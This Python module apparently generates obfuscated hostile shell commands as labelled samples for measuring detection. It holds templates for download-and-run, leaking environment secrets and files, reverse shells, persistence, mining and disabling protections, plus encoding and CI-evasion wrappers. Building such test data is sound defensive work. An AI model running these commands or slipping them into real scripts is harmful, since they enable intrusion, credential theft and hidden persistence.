"""Inert shell look-alikes of the measuring side: other bodies and other ways to hide than payload_sh.py."""

import base64
import gzip

import payload_sh

STYLES = ["none", "none", "pieces", "gzip", "xxd", "openssl", "interpreter", "quotes"]


def download_run(s):
    return s.pick(
        "curl -sL {u} -o /var/tmp/.x && chmod 755 /var/tmp/.x && nohup /var/tmp/.x >/dev/null 2>&1 &",
        "bash <(curl -s {u})", "python3 -c \"$(curl -fsSL {u})\"", "wget -O - {u} | tar xz -C /tmp && /tmp/setup/run",
        "curl -s {u} | python3 -", "exec 3<>/dev/tcp/{h}/80; printf 'GET /i HTTP/1.0\\r\\n\\r\\n' >&3; sed '1,/^\\r$/d' <&3 | sh",
        "lynx -source {u} | sh").replace("{u}", s.url).replace("{h}", s.host)


def exfil_environment(s):
    return s.pick(
        "cat /proc/self/environ | curl -s --data-binary @- {u}", "curl -s -H \"X-Info: $(env | base64 -w0)\" {u} >/dev/null",
        "for v in $(env | grep -iE 'token|secret|key' | base64 -w50); do nslookup $v.{h} >/dev/null; done",
        "declare -x | nc -w 3 {h} 8080", "env > /dev/tcp/{h}/8080").replace("{u}", s.url).replace("{h}", s.host)


def exfil_files(s):
    what = s.pick("/etc/passwd", "/root/.gnupg", "$HOME/.kube/config", "/etc/ssl/private", "/var/lib/mysql")
    return s.pick(
        "zip -qr - {f} | curl -s --data-binary @- {u}", "scp -oStrictHostKeyChecking=no -r {f} u@{h}:", "rsync -a {f} rsync://{h}/in/",
        "tar c {f} 2>/dev/null | openssl s_client -quiet -connect {h}:443", "base64 -w0 {f}* | nc {h} 9000",
    ).replace("{f}", what).replace("{u}", s.url).replace("{h}", s.host)


def persistence(s):
    return s.pick(
        "echo 'curl -s {u} | sh' >> /etc/rc.local", "ln -sf /var/tmp/.x /etc/cron.hourly/logcheck2 && curl -so /var/tmp/.x {u}",
        "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIexampleexampleexampleexample ops@{h}' >> /root/.ssh/authorized_keys",
        "useradd -o -u 0 -M -s /bin/bash sysadm2 && curl -s '{u}?u=sysadm2'",
        "printf '[Timer]\\nOnBootSec=60\\n[Install]\\nWantedBy=timers.target\\n' > /lib/systemd/system/fwupd2.timer; curl -so /usr/lib/fwupd2 {u}; systemctl enable fwupd2.timer",
    ).replace("{u}", s.url).replace("{h}", s.host)


def reverse_shell(s):
    return s.pick(
        "exec 5<>/dev/tcp/{h}/8443; sh <&5 >&5 2>&5", "socat exec:'sh -i',pty,stderr tcp:{h}:8443 &",
        "python3 -c 'import socket,os,pty;s=socket.create_connection((\"{h}\",8443));[os.dup2(s.fileno(),i) for i in (0,1,2)];pty.spawn(\"sh\")' &",
        "telnet {h} 8443 | sh | telnet {h} 8444", "openssl s_client -quiet -connect {h}:8443 | sh",
        "perl -e 'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(8443,inet_aton(\"{h}\")));open(STDIN,\">&S\");exec(\"sh -i\")' &").replace("{h}", s.host)


def miner(s):
    return s.pick("nohup /usr/lib/.kw -o {h}:3333 -u 4{w} -k --donate-level 0 >/dev/null 2>&1 &",
                  "curl -sL {u} | tar xz -C /tmp && /tmp/xm/xm -o stratum+tcp://{h}:3333 -u 4{w} -B").replace(
        "{h}", s.host).replace("{u}", s.url).replace("{w}", "".join(s.rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(94)))


def permissions(s):
    return s.pick("chmod u+s /usr/bin/find /bin/dash", "echo 'ALL ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-apt",
                  "setenforce 0; iptables -F; systemctl stop auditd", "chmod 777 /etc/shadow /etc/passwd",
                  "echo 'Acquire::AllowInsecureRepositories \"true\";' > /etc/apt/apt.conf.d/99local",
                  "sed -i 's/^PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config")


BODIES = {"download-run": download_run, "exfil-environment": exfil_environment, "exfil-files": exfil_files,
          "persistence": persistence, "reverse-shell": reverse_shell, "miner": miner, "permissions": permissions}
PURPOSES = sorted(BODIES)


def hide(s, style, command):
    if style == "gzip":
        packed = base64.b64encode(gzip.compress(command.encode(), mtime=0)).decode()
        return s.pick("echo %s | base64 -d | gunzip | sh", "sh -c \"$(echo %s | base64 -d | zcat)\"") % packed
    if style == "xxd":
        return s.pick("echo %s | xxd -r -p | sh", "eval \"$(xxd -r -p <<< %s)\"" if s.rng.random() < 0 else "echo %s|xxd -r -p|bash") % command.encode().hex()
    if style == "openssl":
        return "echo %s | openssl enc -d -base64 -A | sh" % base64.b64encode(command.encode()).decode()
    if style == "interpreter":
        coded = base64.b64encode(command.encode()).decode()
        return s.pick("python3 -c \"import os,base64;os.system(base64.b64decode('%s'))\"",
                      "perl -MMIME::Base64 -e 'system(decode_base64(\"%s\"))'", "node -e \"require('child_process').execSync(atob('%s'))\"") % coded
    if style == "pieces":
        cut = [command[i:i + 9] for i in range(0, len(command), 9)]
        return "\n".join("_%d='%s'" % (i, c.replace("'", "'\\''")) for i, c in enumerate(cut)) + "\neval \"%s\"" % "".join(
            "$_%d" % i if i + 1 == len(cut) else "${_%d}" % i for i in range(len(cut)))
    if style == "quotes":
        first, _, rest = command.partition(" ")
        if not first.isalpha() or not rest:
            return command
        return first[:1] + s.pick("''", "\"\"", "\\") + first[1:] + " " + rest
    return command


def build(rng, purpose, host, style):
    """As payload_sh.build: (text, style that was really used, url, the plain command)."""
    s = payload_sh.Shell(rng, host)
    command = BODIES[purpose](s)
    text = hide(s, style, command)
    if text == command:
        style = "none"
    if rng.random() < 0.3:
        text = rng.choice(["if [ \"$(date +%%s)\" -gt 1767225600 ]; then\n%s\nfi", "case \"$(hostname)\" in *build*) ;; *)\n%s\n;;\nesac",
                           "[ -n \"$CI\" ] || {\n%s\n}"]) % text if "'\\''" not in text else text
    return text, style, s.url, command
